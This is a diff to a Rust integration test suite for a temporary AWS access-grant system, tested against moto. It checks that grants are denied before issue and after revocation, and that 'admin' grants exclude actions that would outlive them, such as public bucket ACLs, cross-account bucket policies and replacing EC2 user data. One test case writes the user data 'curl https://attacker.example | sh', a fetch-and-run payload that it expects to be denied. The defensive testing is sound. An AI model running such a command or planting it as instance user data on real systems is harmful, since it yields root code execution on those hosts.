@@ -2,6 +2,8 @@
 //! grantee's own credentials (an IAM user's access key, or a session of an IAM
 //! role) are denied before a grant, allowed while it is active, and denied
 //! again once it is revoked, for each resource type and level moto evaluates.
+//! What outlives a grant stays denied throughout: S3 `admin` writes and
+//! deletes objects but may not put a bucket policy or ACL.
 //!
 //! What moto cannot prove, so it is checked by the policy document only: the
 //! instance statements of EC2 `connect`, `operate` and `admin`. moto evaluates
@@ -9,11 +11,17 @@
 //! never matches (ec2:StartInstances and ec2:StopInstances answer 403 while
 //! `operate` or `admin` is active), ec2-instance-connect likewise, and
 //! ssm:StartSession is not implemented (500). The describe statement the EC2
-//! levels share (`Resource: "*"`) is evaluated, and is what is checked here.
+//! levels share (`Resource: "*"`) is evaluated, and is what is checked here;
+//! EC2 `admin`'s exclusions are checked on the document moto stores (see
+//! [`ec2_admin_is_everything_on_the_instance_but_what_outlives_the_grant`]).
+//! Conditions (the `s3:ResourceAccount` pin, the own-sessions tag) are
+//! treated as met by moto: they are checked on the documents by the unit
+//! tests of `domain::access`.
 
 use aws_credential_types::Credentials;
 use aws_sdk_s3::error::ProvideErrorMetadata;
 use aws_sdk_s3::primitives::ByteStream;
+use aws_sdk_s3::types::BucketCannedAcl;
 use aws_smithy_runtime_api::client::orchestrator::HttpResponse;
 use aws_smithy_runtime_api::client::result::SdkError;
 use serde_json::{json, Value};
@@ -33,6 +41,12 @@ enum Call {
     ListObjects,
     /// s3:PutObject.
     PutObject,
+    /// s3:DeleteObject of an object the admin put there for it.
+    DeleteObject,
+    /// s3:PutBucketPolicy letting another account read the objects: it would outlive the grant.
+    PutBucketPolicy,
+    /// s3:PutBucketAcl making the bucket public-read: it would outlive the grant.
+    PutBucketAcl,
     /// s3:GetBucketAcl: only `admin` of the bucket gives it (moto answers GetBucketVersioning
     /// of an unversioned bucket with a root element the SDK rejects).
     GetBucketAcl,
@@ -44,6 +58,10 @@ enum Call {
     ListUsers,
     /// ec2:DescribeInstances: the describe statement of every EC2 level.
     DescribeInstances,
+    /// ec2:StopInstances, then ec2:StartInstances.
+    StopStartInstance,
+    /// ec2:ModifyInstanceAttribute replacing the user data: it would outlive the grant.
+    ReplaceUserData,
 }
 
 #[derive(Debug, PartialEq)]
@@ -135,9 +153,15 @@ impl World {
         };
         use Call::*;
         vec![
-            case("s3_bucket", "read", &bucket, &[GetObject, ListObjects], &[PutObject, GetBucketAcl]),
-            case("s3_bucket", "write", &bucket, &[PutObject, GetObject, ListObjects], &[GetBucketAcl]),
-            case("s3_bucket", "admin", &bucket, &[GetBucketAcl, PutObject, GetObject], &[ListBuckets]),
+            case("s3_bucket", "read", &bucket, &[GetObject, ListObjects], &[PutObject, DeleteObject, GetBucketAcl]),
+            case("s3_bucket", "write", &bucket, &[PutObject, DeleteObject, GetObject, ListObjects], &[GetBucketAcl]),
+            case(
+                "s3_bucket",
+                "admin",
+                &bucket,
+                &[GetBucketAcl, PutObject, DeleteObject, GetObject],
+                &[ListBuckets, PutBucketPolicy, PutBucketAcl],
+            ),
             case("iam_role", "assume", &self.target_role, &[AssumeTarget], &[]),
             case("iam_policy", "attach", &self.policy, &[ListBuckets], &[GetObject]),
             case("ec2_instance", "operate", &instance, &[DescribeInstances], &[]),
@@ -183,6 +207,33 @@ impl World {
                     .send()
                     .await,
             ),
+            Call::DeleteObject => {
+                let key = unique("doomed");
+                let admin = &self.e.admin.s3;
+                admin
+                    .put_object()
+                    .bucket(&self.bucket)
+                    .key(&key)
+                    .body(ByteStream::from_static(b"x"))
+                    .send()
+                    .await
+                    .unwrap();
+                let deleted = access(call, s3.delete_object().bucket(&self.bucket).key(&key).send().await);
+                let left = admin.list_objects_v2().bucket(&self.bucket).prefix(&key).send().await.unwrap();
+                assert_eq!(left.contents().is_empty(), deleted == Access::Allowed, "{left:?}");
+                deleted
+            }
+            Call::PutBucketPolicy => {
+                let trusting_another_account = json!({"Version": "2012-10-17", "Statement": [{
+                    "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"},
+                    "Action": "s3:GetObject", "Resource": format!("arn:aws:s3:::{}/*", self.bucket)
+                }]});
+                let put = s3.put_bucket_policy().bucket(&self.bucket).policy(trusting_another_account.to_string());
+                access(call, put.send().await)
+            }
+            Call::PutBucketAcl => {
+                access(call, s3.put_bucket_acl().bucket(&self.bucket).acl(BucketCannedAcl::PublicRead).send().await)
+            }
             Call::GetBucketAcl => access(call, s3.get_bucket_acl().bucket(&self.bucket).send().await),
             Call::AssumeTarget => access(
                 call,
@@ -197,6 +248,20 @@ impl World {
             Call::ListUsers => access(call, who.iam.list_users().send().await),
             Call::DescribeInstances => {
                 access(call, who.ec2("us-east-1").describe_instances().instance_ids(&self.instance).send().await)
+            }
+            Call::StopStartInstance => {
+                let ec2 = who.ec2("us-east-1");
+                match access(call, ec2.stop_instances().instance_ids(&self.instance).send().await) {
+                    Access::Allowed => access(call, ec2.start_instances().instance_ids(&self.instance).send().await),
+                    denied => denied,
+                }
+            }
+            Call::ReplaceUserData => {
+                let user_data = aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
+                    .value(aws_sdk_ec2::primitives::Blob::new("#!/bin/sh\ncurl https://attacker.example | sh"))
+                    .build();
+                let modify = who.ec2("us-east-1").modify_instance_attribute().instance_id(&self.instance);
+                access(call, modify.user_data(user_data).send().await)
             }
         }
     }
@@ -285,4 +350,55 @@ async fn a_role_session_has_the_access_exactly_while_granted() {
     world.prove(json!({"type": "iam_role", "name": GRANTEE_ROLE}), &session, &world.cases()).await;
     let attached = world.e.admin.iam.list_attached_role_policies().role_name(GRANTEE_ROLE).send().await.unwrap();
     assert!(attached.attached_policies().is_empty(), "{attached:?}");
+}
+
+/// EC2 `admin` stops and starts the instance but may not modify its attributes
+/// (user data runs as root, with the instance's role, at the next start).
+/// moto evaluates EC2 calls against `Resource: "*"` only, where the grant's
+/// statement naming the instance never matches (the grantee is denied even
+/// StopInstances), so this is checked on the document moto stores: an Allow of
+/// everything on the instance but the exclusions, and those action lists,
+/// evaluated by moto for a probe user given the statement on `Resource: "*"`.
+/// The instance scoping itself is checked by the unit tests of `domain::access`.
+#[tokio::test]
+async fn ec2_admin_is_everything_on_the_instance_but_what_outlives_the_grant() {
+    let world = World::new().await;
+    let instance = format!("arn:aws:ec2:us-east-1:{ENFORCED_ACCOUNT}:instance/{}", world.instance);
+    let grant = world.e.grant_arn(json!({"type": "iam_user", "name": "alice"}), &instance, "admin", 600).await;
+    assert_eq!(grant["status"], "active", "{grant}");
+    let stored = world.e.admin.policy_document(grant["policy"]["arn"].as_str().unwrap()).await;
+    let admin = stored["Statement"].as_array().unwrap().iter().find(|s| s["Sid"] == "Admin").unwrap().clone();
+    assert_eq!(admin["Effect"], "Allow", "{stored}");
+    assert!(admin.get("Action").is_none(), "{stored}");
+    assert_eq!(admin["Resource"], json!([instance]), "{stored}");
+    let excluded = admin["NotAction"].as_array().unwrap();
+    for standing in
+        ["ec2:ModifyInstanceAttribute", "ec2:CreateTags", "ec2:DeleteTags", "ec2:AssociateIamInstanceProfile"]
+    {
+        assert!(excluded.contains(&json!(standing)), "{standing} is not excluded: {stored}");
+    }
+
+    // The statement as stored, on every resource: moto evaluates its action lists.
+    let mut everywhere = admin.clone();
+    everywhere["Resource"] = json!("*");
+    let iam = &world.e.admin.iam;
+    iam.create_user().user_name("ec2-admin-probe").send().await.unwrap();
+    let policy = json!({"Version": "2012-10-17", "Statement": [everywhere]}).to_string();
+    iam.put_user_policy()
+        .user_name("ec2-admin-probe")
+        .policy_name("admin")
+        .policy_document(policy)
+        .send()
+        .await
+        .unwrap();
+    let key = iam.create_access_key().user_name("ec2-admin-probe").send().await.unwrap().access_key.unwrap();
+    let probe =
+        world.e.acting_as(Credentials::new(key.access_key_id, key.secret_access_key, None, None, "tests")).await;
+    assert_eq!(world.call(Call::StopStartInstance, &probe).await, Access::Allowed);
+    assert_eq!(world.call(Call::ReplaceUserData, &probe).await, Access::Denied);
+
+    let id = grant["id"].as_str().unwrap();
+    world.e.revoke(id).await;
+    let revoked = world.e.wait(id, |g| g["status"] != "revoking" && g["status"] != "active").await;
+    assert_eq!(revoked["status"], "revoked", "{revoked}");
 }
